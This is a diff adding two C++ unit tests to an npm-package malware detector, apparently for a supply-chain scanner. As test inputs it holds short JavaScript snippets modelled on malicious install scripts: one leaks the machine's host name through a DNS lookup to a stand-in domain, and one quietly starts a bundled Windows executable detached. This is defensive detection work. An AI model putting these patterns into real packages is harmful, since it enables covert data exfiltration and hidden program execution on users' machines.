@@ -486,3 +486,40 @@ TEST(Signals, english_in_a_file_that_shifts_letters_and_evaluates_is_not_a_shift
 
 }  // namespace
 }  // namespace batlehub::signals
+
+namespace batlehub::signals {
+namespace {
+
+// The npm tuning half, read (issue 45): electorn's preinstall sends the host name inside a
+// template literal (`${os.hostname()}.…` to dns.lookup), and sonatype's postinstall starts
+// the Windows program it ships, detached, through a destructured spawn.
+TEST(Signals, a_template_literals_expression_is_code_and_its_host_name_is_collected) {
+  const Lexed l = lex("const t = `${pkg.name}.${os.hostname()}.example`;\n", Language::kJavaScript);
+  ASSERT_EQ(l.literals.size(), 1u);
+  EXPECT_EQ(l.literals[0].value, "${}.${}.example");
+  EXPECT_NE(l.code.find("os.hostname()"), std::string::npos) << l.code;
+  const auto facts =
+      js("const os = require('os'); const dns = require('dns');\n"
+         "dns.lookup(`${os.hostname()}.x.localhost`, () => {});\n");
+  expect_facts(facts, {
+                          {FactKind::kCollect, "host", 2, "os.hostname("},
+                          {FactKind::kSend, "dns", 2, "dns.lookup("},
+                      });
+}
+
+TEST(Signals, a_shipped_windows_program_started_detached_by_a_destructured_spawn_is_seen) {
+  const auto facts =
+      js("const { join } = require('path');\nconst { spawn } = require('child_process');\n"
+         "spawn(join(__dirname, 'Installer-2.0.exe'), { detached: true, stdio: 'ignore' }).unref();\n");
+  ASSERT_EQ(facts.size(), 1u);
+  EXPECT_EQ(facts[0].kind, FactKind::kShell);
+  EXPECT_EQ(facts[0].what, "program-started-detached");
+  EXPECT_EQ(facts[0].line, 3u);
+  // Waited for, it is a tool the package runs (esbuild checks its binary's version).
+  EXPECT_TRUE(js("const { execFileSync } = require('child_process');\n"
+                 "execFileSync(require('path').join(__dirname, 'esbuild.exe'), ['--version']);\n")
+                  .empty());
+}
+
+}  // namespace
+}  // namespace batlehub::signals
